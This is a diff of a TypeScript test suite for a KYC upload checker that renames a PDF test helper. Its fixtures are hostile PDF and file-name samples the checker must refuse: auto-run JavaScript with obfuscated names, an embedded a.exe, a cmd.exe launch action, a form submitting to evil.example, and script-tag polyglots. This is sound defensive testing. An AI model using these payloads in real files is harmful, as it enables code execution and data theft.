@@ -2,11 +2,11 @@ import { crc32 } from 'node:zlib'
 import PdfDocument from 'pdfkit'
 import sharp from 'sharp'
 import { describe, expect, it } from 'vitest'
-import { jpegOfScans, packedObjects, paperPdf, pdfOf, photo } from '@upchar/testkit/uploads'
+import { jpegOfScans, packedObjects, plainPdf, pdfOf, photo } from '@upchar/testkit/uploads'
 import { checkContent } from './content/check-content.ts'
 import { cleanName, contentDisposition } from './content/clean-name.ts'
 
-const judged = async (bytes: Buffer, name = 'paper.pdf') => {
+const judged = async (bytes: Buffer, name = 'document.pdf') => {
   const checked = await checkContent({ name, bytes })
   return checked.ok ? checked.value.mediaType : checked.error.code
 }
@@ -27,12 +27,12 @@ const drawnPdf = (): Promise<Buffer> =>
 
 describe('content of uploads', () => {
   it('KYC-04 accepts documents and photos', async () => {
-    expect(await judged(paperPdf())).toBe('application/pdf')
+    expect(await judged(plainPdf())).toBe('application/pdf')
     expect(await judged(await drawnPdf())).toBe('application/pdf')
-    expect(await judged(paperPdf('', [packedObjects('<< /Type /Annot /Subtype /Link >>')]))).toBe(
+    expect(await judged(plainPdf('', [packedObjects('<< /Type /Annot /Subtype /Link >>')]))).toBe(
       'application/pdf',
     )
-    expect(await judged(paperPdf('/AcroForm << /Fields [] /SigFlags 3 >> '))).toBe(
+    expect(await judged(plainPdf('/AcroForm << /Fields [] /SigFlags 3 >> '))).toBe(
       'application/pdf',
     )
     expect(await judged(await photo('jpeg'))).toBe('image/jpeg')
@@ -56,10 +56,10 @@ describe('content of uploads', () => {
 
   it('KYC-04 refuses what is empty, cut off or too large', async () => {
     expect(await judged(Buffer.alloc(0))).toBe('file_damaged')
-    expect(await judged(paperPdf().subarray(0, 200))).toBe('file_damaged')
+    expect(await judged(plainPdf().subarray(0, 200))).toBe('file_damaged')
     expect(await judged((await photo('jpeg')).subarray(0, 300))).toBe('file_damaged')
     expect(await judged((await photo('png')).subarray(0, 120))).toBe('file_damaged')
-    expect(await judged(Buffer.concat([paperPdf(), Buffer.alloc(5 * 1024 * 1024)]))).toBe(
+    expect(await judged(Buffer.concat([plainPdf(), Buffer.alloc(5 * 1024 * 1024)]))).toBe(
       'file_too_large',
     )
   })
@@ -83,7 +83,7 @@ describe('content of uploads', () => {
   it('KYC-04 drops a second file behind or inside a picture by re-encoding it', async () => {
     const hidden = '<script>steal()</script>'
     for (const format of ['jpeg', 'png'] as const) {
-      const polyglot = Buffer.concat([await photo(format), Buffer.from(hidden), paperPdf()])
+      const polyglot = Buffer.concat([await photo(format), Buffer.from(hidden), plainPdf()])
       const checked = await checkContent({ name: 'photo.jpg', bytes: polyglot })
       if (!checked.ok) throw new Error(checked.error.code)
       const drawn = checked.value.bytes.toString('latin1')
@@ -140,46 +140,46 @@ describe('content of uploads', () => {
   })
 
   it('KYC-04 refuses a PDF that begins or ends as something else', async () => {
-    expect(await judged(Buffer.concat([Buffer.from('<script>x</script>'), paperPdf()]))).toBe(
+    expect(await judged(Buffer.concat([Buffer.from('<script>x</script>'), plainPdf()]))).toBe(
       'file_type_refused',
     )
-    expect(await judged(Buffer.concat([paperPdf(), Buffer.from('<html><script>x</script>')]))).toBe(
+    expect(await judged(Buffer.concat([plainPdf(), Buffer.from('<html><script>x</script>')]))).toBe(
       'file_damaged',
     )
     expect(
       await judged(
-        Buffer.concat([paperPdf(), Buffer.from([0x50, 0x4b, 3, 4]), Buffer.alloc(100, 7)]),
+        Buffer.concat([plainPdf(), Buffer.from([0x50, 0x4b, 3, 4]), Buffer.alloc(100, 7)]),
       ),
     ).toBe('file_damaged')
   })
 
   const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
   it.each([
-    ['a script', paperPdf('/OpenAction 5 0 R ', [script])],
+    ['a script', plainPdf('/OpenAction 5 0 R ', [script])],
     [
       'a script with a spelled-out name',
-      paperPdf('/OpenAction 5 0 R ', ['<< /S /J#61v#61Script /#4A#53 (x) >>']),
+      plainPdf('/OpenAction 5 0 R ', ['<< /S /J#61v#61Script /#4A#53 (x) >>']),
     ],
-    ['a script in packed objects', paperPdf('/OpenAction 10 0 R ', [packedObjects(script)])],
+    ['a script in packed objects', plainPdf('/OpenAction 10 0 R ', [packedObjects(script)])],
     [
       'a spelled-out script in packed objects',
-      paperPdf('/OpenAction 10 0 R ', [packedObjects('<< /S /Java#53cript /J#53 (x) >>')]),
+      plainPdf('/OpenAction 10 0 R ', [packedObjects('<< /S /Java#53cript /J#53 (x) >>')]),
     ],
-    ['a short script name alone', paperPdf('/AA << /O << /JS (x) >> >> ')],
+    ['a short script name alone', plainPdf('/AA << /O << /JS (x) >> >> ')],
     [
       'a file inside',
-      paperPdf('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ', [
+      plainPdf('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ', [
         '<< /Type /Filespec /F (a.exe) >>',
       ]),
     ],
-    ['a launch action', paperPdf('/OpenAction << /S /Launch /F (cmd.exe) >> ')],
+    ['a launch action', plainPdf('/OpenAction << /S /Launch /F (cmd.exe) >> ')],
     [
       'a form that sends itself',
-      paperPdf('/OpenAction << /S /SubmitForm /F (https://evil.example) >> '),
+      plainPdf('/OpenAction << /S /SubmitForm /F (https://evil.example) >> '),
     ],
-    ['an XFA form', paperPdf('/AcroForm << /XFA 5 0 R >> ')],
-    ['a film', paperPdf('/X << /Subtype /RichMedia >> ')],
-    ['a lock', paperPdf('', [], '/Encrypt 9 0 R ')],
+    ['an XFA form', plainPdf('/AcroForm << /XFA 5 0 R >> ')],
+    ['a film', plainPdf('/X << /Subtype /RichMedia >> ')],
+    ['a lock', plainPdf('', [], '/Encrypt 9 0 R ')],
   ])('KYC-04 refuses a PDF with %s', async (_, bytes) => {
     expect(await judged(bytes)).toBe('file_active')
   })
@@ -188,9 +188,9 @@ describe('content of uploads', () => {
     const garbled = Buffer.from(
       '<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length 8 >>\nstream\nnotzlib!\nendstream',
     )
-    expect(await judged(paperPdf('', [garbled]))).toBe('file_damaged')
+    expect(await judged(plainPdf('', [garbled]))).toBe('file_damaged')
     expect(
-      await judged(paperPdf('', [packedObjects('<< >>', '/DecodeParms << /Predictor 12 >> ')])),
+      await judged(plainPdf('', [packedObjects('<< >>', '/DecodeParms << /Predictor 12 >> ')])),
     ).toBe('file_damaged')
     // Filter parameters from another object would decode the same bytes differently; of two
     // filters, readers pick either.
@@ -201,15 +201,15 @@ describe('content of uploads', () => {
       '/Decode#50arms 9 0 R /X ( obj) ',
       '/Filter /ASCIIHexDecode ',
     ]) {
-      expect(await judged(paperPdf('', [packedObjects('<< >>', dictionary)]))).toBe('file_damaged')
+      expect(await judged(plainPdf('', [packedObjects('<< >>', dictionary)]))).toBe('file_damaged')
     }
     expect(
       await judged(
-        paperPdf('', ['<< /Type /ObjStm /N 1 /Filter /LZWDecode >>\nstream\nxx\nendstream']),
+        plainPdf('', ['<< /Type /ObjStm /N 1 /Filter /LZWDecode >>\nstream\nxx\nendstream']),
       ),
     ).toBe('file_damaged')
     // Named as packed objects, but without a stream to inspect.
-    expect(await judged(paperPdf('', ['<< /Type /Obj#53tm /N 1 >>']))).toBe('file_damaged')
+    expect(await judged(plainPdf('', ['<< /Type /Obj#53tm /N 1 >>']))).toBe('file_damaged')
   })
 
   it('KYC-04 ignores chance letters in compressed pictures', async () => {
@@ -241,7 +241,7 @@ describe('names of uploads', () => {
     ['.htaccess', 'htaccess.pdf'],
     ['...', 'document.pdf'],
     ['', 'document.pdf'],
-    ['paper\u0000.pdf', 'paper.pdf'],
+    ['document\u0000.pdf', 'document.pdf'],
     ['gpj.\u202Efdp.exe', 'gpj. fdp.pdf'],
     ['<script>alert(1)</script>.pdf', 'script.pdf'],
     ['पंजीकरण प्रमाणपत्र.pdf', 'पंजीकरण प्रमाणपत्र.pdf'],
